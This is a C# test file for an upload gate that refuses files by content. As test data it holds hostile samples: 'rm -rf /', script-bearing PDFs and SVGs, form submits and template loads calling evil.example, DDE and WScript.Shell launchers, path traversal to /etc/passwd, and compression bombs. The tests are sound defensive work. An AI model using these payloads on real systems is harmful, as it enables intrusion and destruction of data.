using System.Globalization;
using System.IO.Compression;
using System.Text;
using Approvals.Modules.Documents;
using Approvals.Modules.Documents.Contract;
using Approvals.Tests.Permits;
using Approvals.Web;
using CsCheck;

namespace Approvals.Tests.Documents;

/// <summary>What may come in is decided by the content; whatever it is called, and however it was made up.</summary>
[Parallelizable(ParallelScope.All)]
internal sealed class GateTests
{
    private static IEnumerable<FileKind> Kinds => Enum.GetValues<FileKind>();

    private static IEnumerable<TestCaseData> Refusals()
    {
        static TestCaseData Case(string name, string code, byte[] bytes) => new TestCaseData(bytes, code).SetArgDisplayNames(name, code);
        yield return Case("nothing", "empty", []);
        yield return Case("a Windows program called .pdf", "program", [.. "MZ"u8, .. new byte[200]]);
        yield return Case("a Linux program", "program", [0x7F, .. "ELF"u8, .. new byte[200]]);
        yield return Case("a script", "program", "#!/bin/sh\nrm -rf /\n"u8.ToArray());
        yield return Case("a shortcut", "program", [0x4C, 0, 0, 0, 1, 0x14, 2, 0, .. new byte[100]]);
        yield return Case("HTML", "markup", "<!DOCTYPE html><html><script>alert(1)</script></html>"u8.ToArray());
        yield return Case("HTML in UTF-16", "markup", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<html><body>x</body></html>")]);
        yield return Case("SVG", "markup", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"u8.ToArray());
        yield return Case("XML", "markup", "<?xml version=\"1.0\"?><x/>"u8.ToArray());
        yield return Case("text", "unknown", "材料"u8.ToArray());
        yield return Case("GIF", "unknown", "GIF89a;"u8.ToArray());
        yield return Case("a plain zip", "archive", Samples.Zip(("a.pdf", Samples.Pdf())));
        yield return Case("a jar", "archive", Samples.Zip(("META-INF/MANIFEST.MF", "Main-Class: X"), ("X.class", new byte[] { 0xCA, 0xFE, 0xBA, 0xBE })));
        yield return Case("rar", "archive", "Rar!\x1A\x07\x01"u8.ToArray());
        yield return Case("7z", "archive", [.. "7z"u8, 0xBC, 0xAF, 0x27, 0x1C]);

        yield return Case("a PDF that begins as HTML", "markup", [.. "%PDF-1.7 <html><script>alert(1)</script>\n"u8, .. Samples.Pdf()[9..]]);
        yield return Case("a PDF that does not begin as one", "unknown", [.. "junk"u8, .. Samples.Pdf()]);
        yield return Case("a PDF and a zip in one", "twoFaced", [.. Samples.Pdf(), .. Samples.Zip(("x", "y"))]);
        yield return Case("a PDF with something behind it", "twoFaced", Samples.Pdf(behind: "MZ program"));
        yield return Case("a PDF that does not say where its table begins", "damaged", Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(Samples.Pdf()).Replace("startxref", "startxxxx", StringComparison.Ordinal)));
        yield return Case("half a PDF", "damaged", Samples.Pdf()[..150]);
        yield return Case("a PDF with a script", "activePdf", Samples.Pdf("5 0 obj\n<</S /JavaScript /JS (app.alert(1))>>\nendobj"));
        yield return Case("a PDF with a script in disguise", "activePdf", Samples.Pdf("5 0 obj\n<</S /J#61vaScr#69pt /JS (x)>>\nendobj"));
        yield return Case("a PDF that starts a program", "activePdf", Samples.Pdf("5 0 obj\n<</S/Launch/F(calc.exe)>>\nendobj"));
        yield return Case("a PDF with an attachment", "activePdf", Samples.Pdf("5 0 obj\n<</Type/EmbeddedFile/Length 0>>\nendobj"));
        yield return Case("a PDF with a script in a packed object", "activePdf", Samples.PackedPdf("5 0 <</S /JavaScript /JS (x)>>"));
        yield return Case("a PDF that swells", "bomb", Samples.PackedPdf(new string(' ', 80 * 1024 * 1024)));
        yield return Case("a locked PDF", "locked", Samples.Pdf("5 0 obj\n<</Encrypt 6 0 R>>\nendobj"));

        yield return Case("a PDF with a script in a packed object behind a string that says stream", "activePdf", Samples.PackedPdf(Script, "/X (a stream\n) /Y (endobj) % stream\n"));
        yield return Case("a PDF with a script in a packed object behind a blank at the end of the line", "activePdf", Samples.PackedPdf(Script, line: " \n"));
        yield return Case("a PDF with a script in a packed object that does not say it is one", "activePdf", Samples.PackedPdf(Script, type: ""));
        yield return Case("a PDF with a script in a packed object whose names are cut by a predictor", "sealedPdf", Samples.PackedPdf("\u00025 0 <</S /Java\u0002Script /JS (\u0002x)>>     ", "/DecodeParms<</Predictor 12/Columns 15>>"));
        yield return Case("a PDF with a script in a packed object whose bytes are written as differences", "sealedPdf", Samples.PackedPdf("5 0 " + string.Concat("<</S /JavaScript>>".Select((c, i) => (char)((c - (i < 8 ? 0 : "<</S /JavaScript>>"[i - 8])) & 0xFF))), "/DecodeParms<</Predictor 2/Colors 8/Columns 4>>"));
        yield return Case("a PDF with packed objects that do not unpack", "sealedPdf", Samples.Pdf("4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 9>>\nstream\nnot packed\nendstream\nendobj"));
        yield return Case("a PDF with objects packed in another way", "sealedPdf", Samples.Pdf("4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode]/Length 9>>\nstream\n35203020>\nendstream\nendobj"));
        yield return Case("a PDF with a packed object that begins where a string begins before it", "activePdf", Samples.Pdf("(\n" + Encoding.Latin1.GetString(Samples.PackedPdf(Script)[15..])));
        yield return Case("a PDF with a dynamic form", "activePdf", Samples.Pdf("5 0 obj\n<</AcroForm<</XFA[(template) 6 0 R]/Fields[]>>>>\nendobj"));
        yield return Case("a PDF with a dynamic form in a packed object", "activePdf", Samples.PackedPdf("5 0 <</XFA 6 0 R>>"));
        yield return Case("a PDF with 3D", "activePdf", Samples.Pdf("5 0 obj\n[<</Type/Annot/Subtype/#33D/3DD 6 0 R>>]\nendobj"));

        yield return Case("a PDF with a file behind a note", "activePdf", Samples.Pdf("4 0 obj\n<</Type/Annot/Subtype/FileAttachment/FS 5 0 R>>\nendobj"));
        yield return Case("a PDF with a file that does not say it is embedded", "activePdf", Samples.Pdf($"4 0 obj\n<</Type/Catalog/AF[5 0 R]>>\nendobj\n{Attached}\nendobj"));
        yield return Case("a PDF with such a file in disguise", "activePdf", Samples.Pdf(Attached.Replace("/EF", "/#45F", StringComparison.Ordinal) + "\nendobj"));
        yield return Case("a PDF with such a file named in a packed object", "activePdf", Samples.PackedPdf("5 0 <</Type/Filespec/F(setup.exe)/EF<</F 6 0 R>>>>"));
        yield return Case("a PDF with such a file named in a packed object behind a remark", "activePdf", Samples.PackedPdf("5 0 <</Type/Filespec/EF%\n 6 0 R>>"));
        yield return Case("a PDF with a dynamic form in a packed object behind a remark", "activePdf", Samples.PackedPdf("5 0 <</XFA%\n 6 0 R>>"));
        foreach (var action in new[] { "/S/Rendition/OP 0/JS(app.alert(1))", "/S/SubmitForm/F(http://evil.example/)", "/S/ImportData/F(\\\\\\\\evil\\\\x.fdf)", "/S/GoToR/F(\\\\\\\\evil\\\\x.pdf)", "/S/GoToE/T<</R/C>>" })
        {
            yield return Case($"a PDF with the action {action[..8]}", "activePdf", Samples.Pdf($"5 0 obj\n<</OpenAction<<{action}>>>>\nendobj"));
            yield return Case($"a PDF with the action {action[..8]} in a packed object", "activePdf", Samples.PackedPdf($"5 0 <<{action}>>"));
            yield return Case($"a PDF with the action {action[..8]} in a stream of objects that is not packed", "activePdf", Samples.StreamPdf($"5 0 <<{action}>>"));
            yield return Case($"a PDF with the action {action[..8]} in its trailer", "activePdf", Trailing($"/Root<</Type/Catalog/Pages 2 0 R/OpenAction<<{action}>>>>"));
        }

        foreach (var script in new[] { "/JS(x)", "/JS<78>", "/JS 6 0 R", "/J#53%\n(x)" })
        {
            yield return Case($"a PDF with a script {script}", "activePdf", Samples.Pdf($"5 0 obj\n<<{script}>>\nendobj"));
            yield return Case($"a PDF with a script {script} in a packed object", "activePdf", Samples.PackedPdf($"5 0 <<{script}>>"));
            yield return Case($"a PDF with a script {script} in a stream of objects that is not packed", "activePdf", Samples.StreamPdf($"5 0 <<{script}>>"));
        }

        yield return Case("a PDF with a dynamic form in a stream of objects that is not packed", "activePdf", Samples.StreamPdf("5 0 <</XFA 6 0 R>>"));
        yield return Case("a PDF with a file named in a stream of objects that is not packed", "activePdf", Samples.StreamPdf("5 0 <</Type/Filespec/F(setup.exe)/EF<</F 6 0 R>>>>"));
        yield return Case("a PDF with a file behind a note in a stream of objects that is not packed", "activePdf", Samples.StreamPdf("5 0 <</Type/Annot/Subtype/FileAttachment/FS 5 0 R>>"));
        yield return Case("a PDF with a form that sends, in a stream of objects that does not say it is one", "activePdf", Samples.StreamPdf("5 0 <</S/SubmitForm/F(x)>>", type: ""));
        yield return Case("a PDF with a form that sends, in disguise, behind a text that ends the stream", "activePdf", Samples.StreamPdf("5 0 (\nendstream endobj ) <</S/Submit#46orm/F(x)>>"));
        yield return Case("a PDF with a form that sends, in a second stream of objects", "activePdf", Samples.Pdf("4 0 obj\n<</Type/ObjStm/N 0/First 0/Length 0>>\nstream\n\nendstream\nendobj\n" + "6 0 obj\n<</N 1/First 4/Length 30>>\nstream\n5 0 <</S/SubmitForm/F(x)>>\nendstream\nendobj"));
        yield return Case("a PDF whose stream of objects says it is packed in no way", "sealedPdf", Samples.StreamPdf("5 0 <</S/GoTo>>", "/Filter[]"));
        yield return Case("a PDF with a form that sends, in a trailer across two blocks of the file", "activePdf", Trailing("/Root<</OpenAction<</S/SubmitForm/F(x)>>>>", (64 * 1024) - 3));

        yield return Case("half a picture", "damaged", Samples.All[FileKind.Png][..20_000]);
        yield return Case("a picture with a changed byte", "damaged", Changed(Samples.All[FileKind.Png], 30_000));
        yield return Case("a picture with a program behind it", "twoFaced", [.. Samples.All[FileKind.Png], .. "MZ"u8]);
        yield return Case("a photo with a zip behind it", "twoFaced", Samples.Jpeg(Samples.Zip(("x", "y"))));
        yield return Case("a photo with a page behind it", "twoFaced", Samples.Jpeg(Encoding.UTF8.GetBytes(new string('x', 2000) + "<script>")));
        yield return Case("half a photo", "damaged", Samples.Jpeg()[..30]);
        foreach (var kind in new[] { FileKind.Tiff, FileKind.Dwg, FileKind.Dxf })
            yield return Case($"a {kind} with a zip behind it", "twoFaced", [.. Samples.All[kind], .. Samples.Zip(("x", "y"))]);
        yield return Case("a scan that points outside itself", "damaged", Samples.Tiff(stripAt: 5000));

        yield return Case("a macro document called .docx", "macros", Samples.Office("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml"));
        yield return Case("a document with a macro part", "macros", Samples.Word(("word/vbaProject.bin", "x")));
        yield return Case("a document with a macro part under another name", "macros", Samples.Word(("word/numbers.bin", new byte[] { 1, 2 }), ("word/_rels/document.xml.rels",
            "<Relationships xmlns=\"x\"><Relationship Id=\"a\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"numbers.bin\"/></Relationships>")));
        yield return Case("a workbook with macros of Excel 4", "macros", Samples.Office("spreadsheetml.sheet.main+xml", "xl/workbook.xml", ("xl/macrosheets/sheet1.xml", "<x/>")));
        yield return Case("a document with ActiveX", "macros", Samples.Word(("word/activeX/activeX1.xml", "<x/>")));
        yield return Case("a workbook that starts a program by DDE", "macros", Samples.Office("spreadsheetml.sheet.main+xml", "xl/workbook.xml", ("xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"x\"><ddeLink ddeService=\"cmd\"/></externalLink>")));
        yield return Case("a workbook that starts a program by DDE from a part of another name", "macros", Samples.Office("spreadsheetml.sheet.main+xml", "xl/workbook.xml", ("xl/ext/l1.xml", new string(' ', 64 * 1024 - 34) + "<e:externalLink xmlns:e=\"x\"><e:ddeLink ddeService=\"cmd\"/></e:externalLink>")));
        yield return Case("a workbook that starts a program by DDE in UTF-16", "macros", Samples.Office("spreadsheetml.sheet.main+xml", "xl/workbook.xml", ("xl/ext/l1.bin", Encoding.Unicode.GetBytes("\uFEFF<externalLink><ddeLink/></externalLink>"))));
        yield return Case("a workbook that reads from a connection", "outsideLink", Samples.Office("spreadsheetml.sheet.main+xml", "xl/workbook.xml", ("xl/_rels/workbook.xml.rels", Related("connections", "c.xml")), ("xl/c.xml", "<connections/>")));
        yield return Case("a document with a page of another kind in it", "embeddedObject", Samples.Word(("word/_rels/document.xml.rels", Related("aFChunk", "chunk.dat")), ("word/chunk.dat", "{\\rtf1\\object}")));
        yield return Case("a document with an old workbook in it", "embeddedObject", Samples.Word(("word/embeddings/oleObject1.bin", Samples.Compound("Workbook"))));
        yield return Case("an OFD with an old workbook in it", "embeddedObject", Samples.Ofd(("Doc_0/Attachs/a.dat", Samples.Compound("_VBA_PROJECT"))));
        yield return Case("an OFD with any object of old Office in it", "embeddedObject", Samples.Ofd(("Doc_0/Attachs/a.dat", Samples.Compound("Equation Native"))));
        yield return Case("an OFD with a page in it", "embeddedObject", Samples.Ofd(("Doc_0/Attachs/a.xml", "<?xml version=\"1.0\"?>\n<html><script>x</script></html>")));
        yield return Case("an OFD with a script in it", "embeddedObject", Samples.Ofd(("Doc_0/Attachs/a.dat", "new ActiveXObject('WScript.Shell').Run('calc')")));
        yield return Case("an OFD with a script in UTF-16 in it", "embeddedObject", Samples.Ofd(("Doc_0/Attachs/a.dat", Encoding.Unicode.GetBytes("\uFEFFCreateObject(\"WScript.Shell\")"))));
        yield return Case("a part of another size than its table says", "damaged", Sized(Samples.Word(("word/x.xml", new byte[5000]))));
        yield return Case("a document that loads its template from outside", "outsideLink", Samples.Word(("word/_rels/settings.xml.rels",
            "<Relationships xmlns=\"x\"><Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")));
        foreach (var (name, mode) in new[] { ("attachedTemplate/hyperlink", "External"), ("attachedTemplate?/hyperlink", "External"), ("Hyperlink", "External"), ("attachedTemplate", " External "), ("attachedTemplate", "eXternal") })
            yield return Case($"a document that loads {name} from {mode}", "outsideLink", Samples.Word(("word/_rels/settings.xml.rels", Related(name, $"http://evil.example/t.dotm\" TargetMode=\"{mode}"))));
        yield return Case("a document with a link of another's kind", "outsideLink", Samples.Word(("word/_rels/settings.xml.rels",
            "<Relationships xmlns=\"x\"><Relationship Id=\"a\" Type=\"http://evil.example/relationships/hyperlink\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")));
        foreach (var (name, content) in new[] { ("run.ps1", "iex(1)"), ("run.dat", "iex(1)"), ("x.bin", "new ActiveXObject('WScript.Shell').Run('calc')"), ("x.bat", "\u0001calc"), ("x.JS", "\u0001"), ("x.hta. ", "\u0001"), ("x.xml", "<?xml version=\"1.0\"?>\n<html><script>x</script></html>"), ("image1.svg", "<svg><script>x</script></svg>") })
            yield return Case($"a document with the script {name} in it", "embeddedObject", Samples.Word(("word/media/" + name, content)));
        yield return Case("an OFD with a command in it", "embeddedObject", Samples.Ofd(("Doc_0/Attachs/a.cmd", "\u0001calc")));
        yield return Case("a document with a program in it", "embeddedObject", Samples.Word(("word/media/image1.png", "MZ program")));
        yield return Case("a document with a packed file in it", "embeddedObject", Samples.Word(("word/embeddings/oleObject1.bin", Samples.Compound("\u0001Ole10Native"))));
        yield return Case("a document with an object that has macros", "embeddedObject", Samples.Word(("word/embeddings/oleObject1.bin", Samples.Compound("_VBA_PROJECT"))));
        yield return Case("a document with a macro workbook in it", "macros", Samples.Word(("word/embeddings/x.xlsx", Samples.Office("spreadsheetml.sheet.main+xml", "xl/workbook.xml", ("xl/vbaProject.bin", "x")))));
        yield return Case("a document with an archive in it", "archive", Samples.Word(("word/media/x.rar", "Rar!\x1A\x07\x01\0")));
        yield return Case("an old document", "legacyOffice", Samples.Compound("WordDocument"));
        yield return Case("a locked document", "locked", Samples.Compound("EncryptedPackage"));
        yield return Case("a document with a DTD", "damaged", Samples.Word(("word/styles.xml", "<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>")));
        yield return Case("a name that leads out", "unsafePath", Samples.Word(("../../etc/cron.d/x", "y")));
        yield return Case("a name from the root", "unsafePath", Samples.Word(("/etc/passwd", "y")));
        yield return Case("a name of Windows", "unsafePath", Samples.Word(("..\\..\\x", "y")));
        yield return Case("one name twice", "damaged", Samples.Word(("word/A.xml", "<x/>"), ("word/a.xml", "<y/>")));
        yield return Case("half a document", "damaged", Samples.Docx()[..^40]);
        yield return Case("a document with a changed byte", "damaged", Changed(Samples.Zip(("[Content_Types].xml", new string('x', 10)), ("a", new byte[50])), 50));
        yield return Case("a document behind a program", "program", [.. "MZ"u8, .. Samples.Docx()]);
        yield return Case("a document that says two kinds", "damaged", Samples.Zip(
            Types(("word/document.xml", "wordprocessingml.document.main+xml"), ("xl/workbook.xml", "spreadsheetml.sheet.main+xml")), ("word/document.xml", "<x/>"), ("xl/workbook.xml", "<x/>")));
        yield return Case("a document without what it says it is", "damaged", Samples.Zip(Types(("word/document.xml", "wordprocessingml.document.main+xml")), ("word/x.xml", "<x/>")));
        yield return Case("an OFD that is an Office document too", "archive", Samples.Ofd(("[Content_Types].xml", "<Types/>")));
        yield return Case("a document with a packed picture that swells", "bomb", Samples.Word(("word/media/image1.emz", Packed(16 * 1024 * 1024))));
        yield return Case("a flat bomb", "bomb", Samples.Word(("word/x.xml", new byte[64 * 1024 * 1024])));
        yield return Case("a nested bomb", "bomb", Nested(3));
        yield return Case("too many parts", "bomb", Samples.Zip([.. Enumerable.Range(0, 5001).Select(i => ($"x{i}", (object)""))]));
        yield return Case("parts that overlap", "bomb", Overlapping());
        yield return Case("a part with another checksum", "damaged", Changed(Samples.Word(("word/x.bin", Noise)), Samples.Word(("word/x.bin", Noise)).AsSpan().IndexOf(Noise.AsSpan(2000, 16))));
        yield return Case("a document with something hidden between its parts", "damaged", Hiding());
        yield return Case("a part that its header calls by another name", "damaged", Changed(Samples.Docx(), Samples.Docx().AsSpan().IndexOf("word/document.xml"u8) + 5));
        yield return Case("a document with a locked part", "locked", LockedPart());
        yield return Case("a part larger than it says", "bomb", Lying(Samples.Word(("word/x.xml", new byte[5000]))));

        yield return Case("a drawing with macros", "macros", Samples.Dwg("AC1032", macros: 1));
        yield return Case("a locked drawing", "locked", Samples.Dwg("AC1027", security: 1));
        yield return Case("a drawing in name alone", "damaged", [.. "AC1032"u8, .. new byte[500]]);
        yield return Case("a drawing of release 9", "oldDrawing", Samples.Dwg("AC1004"));
        yield return Case("half a drawing in text", "damaged", Samples.All[FileKind.Dxf][..^8]);
    }

    private const string Script = "5 0 <</S /JavaScript /JS (x)>>";
    private const string Attached = "5 0 obj\n<</Type/Filespec/F(setup.exe)/EF<</F 6 0 R>>>>\nendobj\n6 0 obj\n<</Length 2>>\nstream\nMZ\nendstream";

    private static (string Name, object Content) Types(params (string Part, string Type)[] parts) =>
        ("[Content_Types].xml", $"<Types>{string.Concat(parts.Select(p => $"<Override PartName=\"/{p.Part}\" ContentType=\"{Samples.OfficeTypes}{p.Type}\"/>"))}</Types>");

    /// <summary>A second trailer of the file, with its word at that place of it.</summary>
    private static byte[] Trailing(string more, int at = 1000)
    {
        var before = Samples.Pdf("@");
        var start = before.AsSpan().IndexOf("@"u8);
        return Samples.Pdf($"%{new string(' ', at - start - 2)}\ntrailer\n<</Size 4{more}>>\n");
    }

    private static string Related(string type, string target) =>
        $"<Relationships xmlns=\"x\"><Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}\" Target=\"{target}\"/></Relationships>";

    [TestCaseSource(nameof(Kinds))]
    public void Each_kind_is_known_by_its_content(FileKind kind) => Assert.That(Samples.Look(Samples.All[kind]), Is.EqualTo(kind));

    [TestCase("AC1015")]
    [TestCase("AC1018")]
    [TestCase("AC1021")]
    [TestCase("AC1024")]
    [TestCase("AC1027")]
    public void Drawings_of_2000_to_2018_come_in(string version) => Assert.That(Samples.Look(Samples.Dwg(version)), Is.EqualTo(FileKind.Dwg));

    /// <summary>Sixty-five parts of eight megabytes, each no larger than any part may be: one packed content stands in all of them.</summary>
    [Test]
    public void Parts_that_are_harmless_each_and_swell_together_are_a_bomb()
    {
        var part = new byte[8 * 1024 * 1024];
        Assert.That(Samples.Look(Samples.Swelling(part, 8)), Is.EqualTo(FileKind.Docx), "64 MB");
        Assert.That(Assert.Throws<Refused>(() => Samples.Look(Samples.Swelling(part, 65)))!.Code(), Is.EqualTo("file.bomb"), "520 MB");
        var picture = Packed(part.Length);
        var pictures = Samples.Word([.. Enumerable.Range(0, 65).Select(i => ($"word/media/image{i}.emz", (object)picture))]);
        Assert.That(Assert.Throws<Refused>(() => Samples.Look(pictures))!.Code(), Is.EqualTo("file.bomb"), "pictures of 520 MB");
    }

    [Test]
    public void An_object_too_large_to_be_looked_through_is_refused()
    {
        var rest = new byte[17 * 1024 * 1024];
        new Random(1).NextBytes(rest); // so that it swells no more than it may
        var document = Samples.Word(("word/embeddings/oleObject1.bin", (byte[])[.. Samples.Compound("Equation Native"), .. rest]));
        Assert.That(Assert.Throws<Refused>(() => Samples.Look(document))!.Code(), Is.EqualTo("file.partTooLarge"));
    }

    [TestCaseSource(nameof(Refusals))]
    public void Refuses(byte[] bytes, string code)
    {
        var refused = Assert.Throws<Refused>(() => Samples.Look(bytes))!;
        Assert.That((refused.Code(), refused.Status, refused.Problems[0].Field), Is.EqualTo(("file." + code, RefusedAs.Invalid, "files")));
    }

    [Test]
    public void What_is_harmless_in_an_office_document_comes_in()
    {
        var chart = Samples.Word(("word/embeddings/Microsoft_Excel_Sheet1.xlsx", Samples.Xlsx()));
        var formula = Samples.Word(("word/embeddings/oleObject1.bin", Samples.Compound("Equation Native")));
        var picture = Samples.Word(("word/media/image1.png", Samples.All[FileKind.Png]));
        var workbook = Samples.Office("spreadsheetml.sheet.main+xml", "xl/workbook.xml", ("xl/externalLinks/_rels/externalLink1.xml.rels",
            "<Relationships xmlns=\"x\"><Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath\" Target=\"other.xlsx\" TargetMode=\"External\"/></Relationships>"));

        var drawing = Samples.Word(("word/media/image1.svg", "<?xml version=\"1.0\"?><!DOCTYPE svg><svg xmlns=\"http://www.w3.org/2000/svg\"/>"), ("[trash]/0000.dat", new byte[2000]), ("word/media/image2.eps", "%!PS-Adobe-3.0 EPSF-3.0\n"));
        var strict = Samples.Word(("word/_rels/document.xml.rels",
            "<Relationships xmlns=\"x\"><Relationship Id=\"a\" Type=\"http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink\" Target=\"https://zone.example/\" TargetMode=\"External\"/><Relationship Id=\"b\" Type=\"x\" Target=\"y\" TargetMode=\"Internal\"/></Relationships>"));

        Assert.That(new[] { chart, formula, picture, workbook, drawing, strict }.Select(Samples.Look), Is.EqualTo(new[] { FileKind.Docx, FileKind.Docx, FileKind.Docx, FileKind.Xlsx, FileKind.Docx, FileKind.Docx }));
    }

    [Test]
    public void What_is_harmless_in_a_PDF_and_in_an_OFD_comes_in()
    {
        byte[][] pdfs =
        [
            Samples.PackedPdf("5 0 <</S /GoTo>>"), Samples.PackedPdf("5 0 6 9 <</A 1>> <</URI (https://zone.example/3D/XFA/x)>>"),
            Samples.Pdf("5 0 obj\n<</Title (see /XFA and /3D \\( stream) /N 1>>\nendobj\n6 0 obj\n<</N 3/Filter/FlateDecode/Length 5>>\nstream\n /3D /XFA \nendstream\nendobj"),
            Samples.Pdf("4 0 obj\n<</Type/ObjStm/N 0/First 0/Length 0>>\nstream\n\nendstream\nendobj"),
            Samples.Pdf("5 0 obj\n<</Font<</EFont 6 0 R/JSong 7 0 R>>/S/GoTo/GoToRight 1/SubmitForms 2/Title(see /EF<< /JS \\(x /SubmitForm /GoToR)>>\nendobj"),
            Samples.Pdf("6 0 obj\n<</Length 60>>\nstream\nBT (/EF <</F 1>> /JS \\(x\\) /Rendition /SubmitForm /GoToR) Tj ET\nendstream\nendobj"),
            Samples.PackedPdf("5 0 6 9 <</S/URI/URI(https://zone.example/EF/JS/x)>> <</URI(https://zone.example/JS)/EFont 1/A(/EF) /B[/GoToRight/JSong]>>"),
            Samples.StreamPdf("5 0 6 9 <</S/URI/URI(https://zone.example/EF/JS/x)>> <</EFont 1/B[/GoToRight/JSong]/Title(see /EF)>>"),
            Trailing("/Info 5 0 R/ID[<01><02>]/Title(see /JS \\(x and /SubmitForm)"),
            Samples.PackedPdf("5 0 <</S/Named/N/NextPage/Next<</S/URI/URI(https://zone.example/)>>>>"),
        ];
        var ofd = Samples.Ofd(
            ("Doc_0/Res/image.jpg", Samples.Jpeg()), ("Doc_0/Signs/SignedValue.dat", new byte[] { 0x30, 0x82, 1, 2, 0, 1 }), ("Doc_0/Res/font.otf", "%!PS-AdobeFont-1.0"),
            ("Doc_0/Attachs/invoice.xml", "<?xml version=\"1.0\"?><EInvoice><Header><Body>1</Body></Header></EInvoice>"));

        foreach (var pdf in pdfs) Assert.That(Samples.Look(pdf), Is.EqualTo(FileKind.Pdf));
        Assert.That(Samples.Look(ofd), Is.EqualTo(FileKind.Ofd));
    }

    [Test]
    public void A_photo_with_a_second_picture_behind_it_comes_in_as_cameras_write_it() =>
        Assert.That(Samples.Look(Samples.Jpeg([0, 0, .. Samples.Jpeg()])), Is.EqualTo(FileKind.Jpeg));

    /// <summary>However a file is cut, changed or put together, the gate lets it in or says what is wrong. <c>APPROVALS_FUZZ</c> says how many.</summary>
    [Test]
    public void Whatever_is_sent_is_let_in_or_refused_and_nothing_else_happens()
    {
        var count = Environment.GetEnvironmentVariable("APPROVALS_FUZZ") is { Length: > 0 } given ? long.Parse(given, CultureInfo.InvariantCulture) : 20_000;
        byte[][] seeds =
        [
            .. Samples.All.Where(s => s.Key != FileKind.Png).Select(s => s.Value), Samples.PackedPdf("5 0 <</S /GoTo>>"), Samples.StreamPdf("5 0 <</S /GoTo>>"), Samples.Dwg("AC1015"), Png(),
            Samples.Word(("word/embeddings/x.xlsx", Samples.Pptx()), ("word/_rels/document.xml.rels", "<Relationships/>"), ("word/o.bin", Samples.Compound("Equation Native"))),
        ];
        var let = 0;
        Gen.Select(Gen.Int[0, seeds.Length - 1], Gen.Int).Sample(
            (seed, random) =>
            {
                try
                {
                    Samples.Look(Spoil(seeds[seed], seeds, new Random(random)));
                    Interlocked.Increment(ref let);
                }
                catch (Refused refused) when (refused.Status == RefusedAs.Invalid && refused.Problems is [{ Field: "files" }])
                {
                }

                return true;
            },
            iter: count);

        Assert.That(let, Is.GreaterThan(count / 100).And.LessThan(count), "some come in, some do not");
    }

    private static byte[] Spoil(byte[] from, byte[][] others, Random random)
    {
        var bytes = (byte[])from.Clone();
        for (var times = random.Next(1, 4); times > 0; times--)
        {
            switch (random.Next(7))
            {
                case 0: bytes[random.Next(bytes.Length)] = (byte)random.Next(256); break;
                case 1: bytes = bytes[..random.Next(1, bytes.Length + 1)]; break;
                case 2: BitConverter.TryWriteBytes(bytes.AsSpan(random.Next(bytes.Length)), random.Next(3) switch { 0 => -1, 1 => random.Next(), _ => random.Next(64) }); break;
                case 3: var other = others[random.Next(others.Length)]; bytes = [.. bytes, .. other[random.Next(other.Length)..]]; break;
                case 4: var at = random.Next(bytes.Length); bytes = [.. bytes[..at], .. new byte[random.Next(40)], .. bytes[at..]]; break;
                case 5: var cut = random.Next(bytes.Length); bytes = [.. bytes[..cut], .. bytes[Math.Min(bytes.Length, cut + random.Next(40))..], 0]; break;
                default: random.NextBytes(bytes.AsSpan(random.Next(bytes.Length))[..^0]); break;
            }
        }

        return bytes;
    }

    private static byte[] Png()
    {
        static byte[] Chunk(string type, byte[] content)
        {
            byte[] said = [.. Encoding.ASCII.GetBytes(type), .. content];
            var crc = Crc32.End(Crc32.Add(Crc32.Start, said));
            return [0, 0, 0, (byte)content.Length, .. said, (byte)(crc >> 24), (byte)(crc >> 16), (byte)(crc >> 8), (byte)crc];
        }

        return [0x89, .. "PNG\r\n\x1A\n"u8, .. Chunk("IHDR", [0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]), .. Chunk("IDAT", [1, 2, 3]), .. Chunk("IEND", [])];
    }

    private static byte[] Changed(byte[] bytes, int at)
    {
        var changed = (byte[])bytes.Clone();
        changed[at] ^= 0x5A;
        return changed;
    }

    private static byte[] Packed(int length)
    {
        var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.SmallestSize, leaveOpen: true)) gzip.Write(new byte[length]);
        return packed.ToArray();
    }

    private static byte[] Nested(int depth) => depth == 0 ? Samples.Word(("word/x.xml", new byte[1024 * 1024])) : Samples.Word(("word/embeddings/x.docx", Nested(depth - 1)));

    /// <summary>By the table and its own header, the first part reaches into the second.</summary>
    private static byte[] Overlapping()
    {
        var zip = Samples.Zip(("a", new byte[100]), ("b", new byte[100]));
        var table = zip.AsSpan().IndexOf("PK\u0001\u0002"u8);
        var longer = BitConverter.ToUInt32(zip, table + 20) + 20;
        BitConverter.TryWriteBytes(zip.AsSpan(table + 20), longer);
        BitConverter.TryWriteBytes(zip.AsSpan(18), longer);
        return zip;
    }

    /// <summary>The header before the first part says one byte more than the table.</summary>
    private static byte[] Sized(byte[] zip)
    {
        Assert.That(zip[6] & 8, Is.Zero, "it knows its size");
        zip[22]++;
        return zip;
    }

    /// <summary>What no packing makes smaller stands in the package as it is.</summary>
    private static readonly byte[] Noise = [.. Enumerable.Range(0, 125).SelectMany(n => System.Security.Cryptography.SHA256.HashData(BitConverter.GetBytes(n)))];

    /// <summary>Between the first part and the second stands what no part speaks of; the table leads past it.</summary>
    private static byte[] Hiding()
    {
        const int Hidden = 100;
        var zip = Samples.Docx();
        var second = zip.AsSpan(4).IndexOf("PK\u0003\u0004"u8) + 4;
        var hiding = (byte[])[.. zip[..second], .. new byte[Hidden], .. zip[second..]];
        for (var at = hiding.AsSpan().IndexOf("PK\u0001\u0002"u8); at >= 0; at = Next(hiding, at))
            if (BitConverter.ToUInt32(hiding, at + 42) is > 0 and var header) BitConverter.TryWriteBytes(hiding.AsSpan(at + 42), header + Hidden);
